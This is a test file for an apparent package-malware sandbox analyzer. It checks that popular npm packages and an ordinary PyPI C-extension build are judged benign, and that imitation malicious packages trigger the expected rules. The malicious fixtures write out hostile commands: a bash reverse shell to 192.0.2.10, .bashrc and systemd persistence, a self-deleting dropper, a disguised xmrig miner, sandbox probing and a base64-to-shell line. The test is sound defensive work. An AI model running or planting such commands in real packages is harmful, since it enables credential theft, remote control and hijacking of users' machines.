// Rules against real behavior: popular npm packages with install scripts, fetched from the
// registry, staged on the host with scripts disabled, detonated in the traced sandbox (no
// network), turned into behavior and judged. They must all come out benign; the imitation
// malware packages must come out malicious with the expected rule ids. Nothing is special-cased
// by name: the rules only see behavior.
import { randomUUID } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { buildBehavior } from '@vetbox/behavior';
import type { Behavior, StagedPackage } from '@vetbox/contracts';
import { createAnalyzer, traceInput } from '@vetbox/pipeline';
import { evaluate, type Evaluation } from '@vetbox/rules';
import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage, phaseReport, runSandbox, type SandboxRunResult } from '@vetbox/sandbox';
import { FAKE_KEY, NPM_PAYLOAD, PY_PAYLOAD, stageNpm, stagePypiSdist, tempDir } from '../fixtures/sandbox/stage.js';

const runtime = new DockerRuntime();
const used: string[] = [];
const cleanup: string[] = [];
const limits = { graceMs: 1000, phaseTimeoutMs: 180_000 };
const honeyKey = [{ path: '.ssh/id_rsa', content: FAKE_KEY, mode: 0o600 }];

beforeAll(async () => {
  await ensureSandboxImage(runtime, { build: true });
}, 600_000);

afterEach(async () => {
  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
});

afterAll(async () => {
  await Promise.all(cleanup.map((dir) => rm(dir, { recursive: true, force: true })));
});

async function detonate(staged: StagedPackage, homeFiles = honeyKey): Promise<{ run: SandboxRunResult; result: Evaluation; behavior: Behavior }> {
  const analysisId = `test-rules-${randomUUID()}`;
  used.push(analysisId);
  const run = await runSandbox({ analysisId, staged, homeFiles, limits });
  const behavior = await buildBehavior({
    ...traceInput(run),
    sandbox: run.sandbox,
    fileChanges: run.phases.flatMap((p) => p.fileChanges),
  });
  const reports = run.phases.map(phaseReport);
  const pkg = { ecosystem: staged.ecosystem, name: staged.name, version: staged.version, sha256: staged.sha256 || '0'.repeat(64), source: staged.source };
  const result = evaluate({ package: pkg, behavior, canaries: [], sandbox: run.sandbox, phases: reports });
  return { run, result, behavior };
}

function describeResult(name: string, run: SandboxRunResult, result: Evaluation): string {
  const phases = run.phases.map((p) => `${p.name}:${p.status}`).join(' ');
  const findings = result.findings.map((f) => `${f.rule}(${f.severity}) ${f.evidence.map((e) => e.summary).slice(0, 3).join(' | ')}`);
  return [`${name}: ${result.verdict} ${result.score} [${phases}]`, ...findings.map((f) => `  ${f}`)].join('\n');
}

/** Popular packages whose install scripts do ordinary things: verify/link binaries, build, print. */
const POPULAR: string[] = [
  'esbuild@0.24.0',
  'core-js@3.39.0',
  'protobufjs@7.4.0',
  '@parcel/watcher@2.5.0',
  'bcrypt@5.1.1',
  'sqlite3@5.1.7',
  'es5-ext@0.10.64',
  'msgpackr-extract@3.0.3',
  'bufferutil@4.0.8',
  'utf-8-validate@6.0.5',
  '@swc/core@1.9.3',
  'sharp@0.33.5',
];

// Through the production pipeline (registry fetch, sinkhole, canaries, both phases): the
// verdict a user would get from `vetbox analyze npm:<spec>`.
describe('rules on real packages: popular install scripts come out benign', () => {
  for (const spec of POPULAR) {
    it(spec, async () => {
      const at = spec.lastIndexOf('@');
      const analysisId = `test-rules-real-${randomUUID()}`;
      used.push(analysisId);
      const job = { analysisId, artifact: { ecosystem: 'npm' as const, name: spec.slice(0, at), version: spec.slice(at + 1), source: 'registry' as const }, phases: ['install' as const, 'import' as const], force: false };
      const { report } = await createAnalyzer({ runtime, limits })(job, { signal: new AbortController().signal, attempt: 1, onStage: () => {} });
      const phases = report.phases.map((p) => `${p.name}:${p.status}`).join(' ');
      const findings = report.findings.map((f) => `  ${f.rule}(${f.severity}) ${f.evidence.map((e) => e.summary).slice(0, 3).join(' | ')}`);
      const text = [`${spec}: ${report.verdict} ${report.score} [${phases}]`, ...findings].join('\n');
      console.log(text);
      expect(report.verdict, text).toBe('benign');
      expect(report.findings.every((f) => f.severity === 'low' || f.severity === 'info'), text).toBe(true);
      expect(report.canaries.every((c) => !c.leaked), text).toBe(true);
    }, 400_000);
  }
});

describe('rules on real behavior: ordinary PyPI builds come out benign', () => {
  it('an sdist with a C extension compiled by setuptools during pip install', async () => {
    const staged = await stagePypiSdist({
      name: 'cext-demo',
      setupPy: [
        'from setuptools import setup, Extension',
        "setup(name='cext-demo', version='1.0.0', py_modules=['cext_demo'],",
        "      ext_modules=[Extension('_cext_demo', sources=['_cext_demo.c'])])",
        '',
      ].join('\n'),
      files: {
        'cext_demo.py': 'from _cext_demo import answer\n',
        '_cext_demo.c': [
          '#include <Python.h>',
          'static PyObject *answer(PyObject *self, PyObject *args) { return PyLong_FromLong(42); }',
          'static PyMethodDef methods[] = {{"answer", answer, METH_NOARGS, ""}, {NULL, NULL, 0, NULL}};',
          'static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "_cext_demo", NULL, -1, methods};',
          'PyMODINIT_FUNC PyInit__cext_demo(void) { return PyModule_Create(&mod); }',
          '',
        ].join('\n'),
      },
      importNames: ['cext_demo'],
    });
    cleanup.push(staged.dir);
    const { run, result, behavior } = await detonate(staged);
    const text = describeResult('cext-demo', run, result);
    console.log(text);
    // The build really ran: a compiler was spawned by setup.py.
    expect(behavior.processes.some((p) => /(^|\/)(x86_64-linux-gnu-)?gcc(-\d+)?$|cc1$/.test(p.argv[0] ?? '')), text).toBe(true);
    expect(result.verdict, text).toBe('benign');
  }, 300_000);
});

describe('rules on real behavior: imitation malware comes out malicious', () => {
  it('npm postinstall reading ~/.ssh/id_rsa, piping curl to sh, connecting to 192.0.2.10', async () => {
    const staged = await stageNpm({ name: 'evil-postinstall', scripts: { postinstall: 'node install.js' }, files: { 'install.js': NPM_PAYLOAD, 'index.js': '' } });
    cleanup.push(staged.dir);
    const { run, result } = await detonate(staged);
    const text = describeResult('evil-postinstall', run, result);
    console.log(text);
    expect(result.verdict, text).toBe('malicious');
    const ids = new Set(result.findings.map((f) => f.rule));
    for (const id of ['credential-store-read', 'downloader-execution', 'network-activity']) expect(ids, text).toContain(id);
    expect(result.findings.every((f) => f.phase === 'install' || f.phase === null), text).toBe(true);
  }, 300_000);

  it('npm payload that runs only at import', async () => {
    const staged = await stageNpm({ name: 'lazy-payload', files: { 'index.js': `${NPM_PAYLOAD}\nmodule.exports = {};\n` } });
    cleanup.push(staged.dir);
    const { run, result } = await detonate(staged);
    const text = describeResult('lazy-payload', run, result);
    console.log(text);
    expect(result.verdict, text).toBe('malicious');
    expect(result.findings.filter((f) => f.rule === 'credential-store-read').map((f) => f.phase), text).toEqual(['import']);
  }, 300_000);

  it('PyPI sdist whose setup.py does the same during pip install', async () => {
    const staged = await stagePypiSdist({
      name: 'evilpkg',
      setupPy: `${PY_PAYLOAD}\nfrom setuptools import setup\nsetup(name='evilpkg', version='1.0.0', py_modules=['evilpkg'])\n`,
      files: { 'evilpkg.py': 'VALUE = 1\n' },
    });
    cleanup.push(staged.dir);
    const { run, result } = await detonate(staged);
    const text = describeResult('evilpkg', run, result);
    console.log(text);
    expect(result.verdict, text).toBe('malicious');
    const ids = new Set(result.findings.map((f) => f.rule));
    for (const id of ['credential-store-read', 'downloader-execution', 'network-activity']) expect(ids, text).toContain(id);
  }, 300_000);

  // Each behavior the catalog names, done for real in the sandbox (no network: connects fail).
  const shapes: Array<{ name: string; script: string; files?: Record<string, string>; rules: string[] }> = [
    { name: 'revshell', script: "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1' || true", rules: ['reverse-shell'] },
    {
      name: 'persister',
      script: 'node persist.js',
      files: {
        'persist.js': `
const fs = require('fs'), os = require('os'), path = require('path');
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\n(node ~/.cache/.u.js &)\\n');
fs.mkdirSync(path.join(os.homedir(), '.config/systemd/user'), { recursive: true });
fs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/updater.service'), '[Service]\\nExecStart=/bin/true\\n');
`,
      },
      rules: ['persistence'],
    },
    {
      name: 'dropper',
      script: 'node drop.js',
      files: {
        'drop.js': `
const fs = require('fs'), cp = require('child_process');
fs.writeFileSync('/tmp/.x-update', '#!/bin/sh\\necho staged\\n');
fs.chmodSync('/tmp/.x-update', 0o755);
cp.execFileSync('/tmp/.x-update', { stdio: 'inherit' });
fs.unlinkSync(__filename);
`,
      },
      rules: ['dropped-executable-run', 'executable-made-outside-package', 'anti-forensics'],
    },
    { name: 'miner', script: "sh -c 'exec -a xmrig sleep 0.1 -o stratum+tcp://pool.invalid:3333 --donate-level 1' || true", rules: ['crypto-mining'] },
    {
      name: 'prober',
      script: 'cat /proc/1/cgroup /sys/class/dmi/id/product_name 2>/dev/null; grep TracerPid /proc/self/status; echo ZWNobyBoaQ== | base64 -d | sh',
      rules: ['sandbox-probe', 'shell-execution'],
    },
  ];
  for (const shape of shapes) {
    it(`${shape.name}: ${shape.rules.join(', ')}`, async () => {
      const staged = await stageNpm({ name: shape.name, scripts: { postinstall: shape.script }, files: { 'index.js': '', ...shape.files } });
      cleanup.push(staged.dir);
      const { run, result } = await detonate(staged);
      const text = describeResult(shape.name, run, result);
      console.log(text);
      const ids = new Set(result.findings.map((f) => f.rule));
      for (const id of shape.rules) expect(ids, text).toContain(id);
      expect(result.verdict, text).not.toBe('benign');
    }, 300_000);
  }
});

